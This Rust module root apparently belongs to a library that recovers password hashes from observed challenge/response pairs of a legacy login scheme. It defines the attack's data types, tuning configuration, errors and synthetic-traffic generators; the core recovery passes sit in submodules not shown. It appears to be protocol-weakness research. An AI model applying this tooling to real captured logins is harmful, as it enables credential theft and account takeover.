//! Seed recovery from observed challenge/response pairs.
//!
//! The pipeline has three passes. The polygon search inverts one pair into
//! exact convex regions of seed space (`procedure1`/`recover_w9`). The cell
//! filter intersects regions across pairs at dyadic resolution, where XOR by
//! a challenge permutes cells (`procedure2`). The point sieve enumerates the
//! remaining lattice points and keeps those reproducing every observed
//! response (`extract_points`/`procedure3`). `run_attack` glues the passes
//! together and logs per-stage counts.

mod attack;
mod procedure1;
mod procedure2;
mod procedure3;

use alloc::vec::Vec;
use core::fmt;

use crate::exact_geometry::{ConvexPolygon, DyadicCell};
use crate::legacy_auth::{
    hash_password, random_challenge_text, scramble, AuthError, HashHalves, Response,
    ScrambleParams,
};

pub use attack::{run_attack, AttackResult, StageRecord};
pub use procedure1::{initial_pieces, procedure1, recover_w9, PolygonSet};
pub use procedure2::procedure2;
pub use procedure3::{extract_points, procedure3, score_candidates};

use num_traits::ToPrimitive;
use rand_core::RngCore;

/// One observed authentication: the server's challenge (text if known, hash
/// halves always) and the client's 8-byte answer.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct ChallengeResponsePair {
    pub challenge_text: Option<Vec<u8>>,
    pub challenge_hash: HashHalves,
    pub response: Response,
}

impl ChallengeResponsePair {
    pub fn from_text(text: &[u8], response: Response) -> Self {
        ChallengeResponsePair {
            challenge_text: Some(text.to_vec()),
            challenge_hash: hash_password(text),
            response,
        }
    }

    /// A pair known only by the challenge's hash halves (synthetic traffic
    /// and small-domain experiments).
    pub fn from_hashes(challenge_hash: HashHalves, response: Response) -> Self {
        ChallengeResponsePair {
            challenge_text: None,
            challenge_hash,
            response,
        }
    }

    /// Simulates one login against a known password hash: random printable
    /// challenge text, honestly computed response.
    pub fn generate_from_text(
        password: &HashHalves,
        rng: &mut impl RngCore,
        params: &ScrambleParams,
    ) -> Self {
        let text = random_challenge_text(rng);
        let challenge_hash = hash_password(&text);
        let response = scramble(*password, challenge_hash, params);
        ChallengeResponsePair {
            challenge_text: Some(text.to_vec()),
            challenge_hash,
            response,
        }
    }

    /// Synthetic pair with uniform challenge halves drawn from the full seed
    /// domain (small domains cannot be reached through the text hash, whose
    /// outputs are 31-bit).
    pub fn generate_synthetic(
        password: &HashHalves,
        rng: &mut impl RngCore,
        params: &ScrambleParams,
    ) -> Self {
        let mask = params.half_width() - 1;
        let challenge_hash = HashHalves::new(
            (rng.next_u64() & mask) as u32,
            (rng.next_u64() & mask) as u32,
        );
        let response = scramble(*password, challenge_hash, params);
        ChallengeResponsePair {
            challenge_text: None,
            challenge_hash,
            response,
        }
    }

    pub fn validate(&self, params: &ScrambleParams) -> Result<(), AttackError> {
        if let Some(text) = &self.challenge_text {
            if hash_password(text) != self.challenge_hash {
                return Err(AttackError::ChallengeMismatch);
            }
        }
        let w = params.half_width();
        if self.challenge_hash.h1 as u64 >= w || self.challenge_hash.h2 as u64 >= w {
            return Err(AttackError::ChallengeRange);
        }
        self.response
            .validate(params)
            .map_err(|source| AttackError::InvalidResponse { source })
    }

    /// Seed halves this challenge induces for a given password hash.
    pub fn seeds(&self, password: &HashHalves) -> (u64, u64) {
        (
            (password.h1 ^ self.challenge_hash.h1) as u64,
            (password.h2 ^ self.challenge_hash.h2) as u64,
        )
    }
}

/// A fragment of a seed-space polygon confined to one dyadic cell. `source`
/// is the index of the originating polygon set within its pair.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct CellPiece {
    pub cell: DyadicCell,
    pub fragment: ConvexPolygon,
    pub source: usize,
}

/// Password-space points that survived sieving, sorted ascending and
/// deduplicated. `pairs_survived` counts the pairs whose responses the
/// points are known to reproduce.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct CandidateSet {
    pub points: Vec<HashHalves>,
    pub pairs_survived: usize,
}

impl CandidateSet {
    pub fn contains(&self, hash: &HashHalves) -> bool {
        self.points.binary_search(hash).is_ok()
    }

    pub fn len(&self) -> usize {
        self.points.len()
    }

    pub fn is_empty(&self) -> bool {
        self.points.is_empty()
    }
}

/// Tuning knobs for `run_attack`.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct AttackConfig {
    /// Pairs inverted by the polygon search (the first pair anchors the
    /// pipeline; the rest drive cell-filter rounds).
    pub p1_pairs: usize,
    /// Cell-side exponents for successive filter rounds, strictly
    /// decreasing; the last entry is reused if more rounds run.
    pub cell_exponents: Vec<u32>,
    /// Hard cap on extracted lattice points.
    pub sieve_budget: u64,
    /// Stop the response filter once a single candidate remains.
    pub stop_when_unique: bool,
    /// Exclusive upper bound on the seed halves, when one is known a
    /// priori. Text logins XOR two 31-bit hash halves, so their seeds stay
    /// below 2^31 even though the strip system lives in the full 2^32
    /// square; clipping to the bound prunes aliased preimages that no real
    /// password can produce. None searches the whole domain.
    pub seed_bound: Option<u64>,
}

impl Default for AttackConfig {
    fn default() -> Self {
        AttackConfig {
            p1_pairs: 5,
            cell_exponents: alloc::vec![24, 20, 16, 12],
            sieve_budget: 1 << 24,
            stop_when_unique: true,
            seed_bound: None,
        }
    }
}

impl AttackConfig {
    pub fn validate(&self, params: &ScrambleParams) -> Result<(), AttackError> {
        if self.p1_pairs < 2 {
            return Err(AttackError::InvalidConfig {
                reason: "p1_pairs must be at least 2",
            });
        }
        if self.cell_exponents.is_empty() {
            return Err(AttackError::InvalidConfig {
                reason: "cell_exponents must not be empty",
            });
        }
        for pair in self.cell_exponents.windows(2) {
            if pair[1] >= pair[0] {
                return Err(AttackError::InvalidConfig {
                    reason: "cell_exponents must be strictly decreasing",
                });
            }
        }
        if self.cell_exponents[0] >= params.half_width_bits {
            return Err(AttackError::InvalidConfig {
                reason: "cell exponents must be below the seed width",
            });
        }
        if self.sieve_budget == 0 {
            return Err(AttackError::InvalidConfig {
                reason: "sieve_budget must be positive",
            });
        }
        if let Some(bound) = self.seed_bound {
            if bound < 1 || bound > params.half_width() {
                return Err(AttackError::InvalidConfig {
                    reason: "seed_bound must lie within the seed domain",
                });
            }
        }
        Ok(())
    }
}

#[derive(Clone, PartialEq, Eq, Debug)]
pub enum AttackError {
    /// No mask digit yields a consistent polygon set: the pair is corrupted
    /// or was produced by a different scramble variant.
    NoPolygons { pair_index: Option<usize> },
    /// Extraction would enumerate more points than allowed; run more cell
    /// filter rounds (or supply more pairs) before sieving.
    BudgetExceeded { budget: u64 },
    /// Identical challenges carry no new information and break the
    /// cross-pair filter's premise.
    DuplicateChallenge { first: usize, second: usize },
    TooFewPairs { needed: usize, got: usize },
    InvalidConfig { reason: &'static str },
    /// A pair's response failed validation.
    InvalidResponse { source: AuthError },
    /// Challenge halves fall outside the seed domain.
    ChallengeRange,
    /// Stored challenge text does not hash to the stored halves.
    ChallengeMismatch,
    /// Context wrapper naming the offending pair.
    AtPair { pair_index: usize, source: alloc::boxed::Box<AttackError> },
}

impl AttackError {
    pub(crate) fn at_pair(self, pair_index: usize) -> AttackError {
        match self {
            AttackError::NoPolygons { .. } => AttackError::NoPolygons {
                pair_index: Some(pair_index),
            },
            other => AttackError::AtPair {
                pair_index,
                source: alloc::boxed::Box::new(other),
            },
        }
    }
}

impl fmt::Display for AttackError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AttackError::NoPolygons { pair_index: Some(i) } => {
                write!(f, "pair {i}: no mask digit yields a nonempty polygon set")
            }
            AttackError::NoPolygons { pair_index: None } => {
                write!(f, "no mask digit yields a nonempty polygon set")
            }
            AttackError::BudgetExceeded { budget } => write!(
                f,
                "candidate extraction exceeded the budget of {budget} points; \
                 run more cell-filter rounds or add pairs"
            ),
            AttackError::DuplicateChallenge { first, second } => {
                write!(f, "pairs {first} and {second} share a challenge")
            }
            AttackError::TooFewPairs { needed, got } => {
                write!(f, "need at least {needed} pairs, got {got}")
            }
            AttackError::InvalidConfig { reason } => write!(f, "invalid config: {reason}"),
            AttackError::InvalidResponse { source } => write!(f, "invalid response: {source}"),
            AttackError::ChallengeRange => {
                write!(f, "challenge halves fall outside the seed domain")
            }
            AttackError::ChallengeMismatch => {
                write!(f, "challenge text does not hash to the stored halves")
            }
            AttackError::AtPair { pair_index, source } => {
                write!(f, "pair {pair_index}: {source}")
            }
        }
    }
}

#[cfg(feature = "std")]
impl std::error::Error for AttackError {}

pub(crate) fn rational_to_f64(value: &crate::exact_geometry::Rational) -> f64 {
    value.to_f64().unwrap_or(f64::NAN)
}
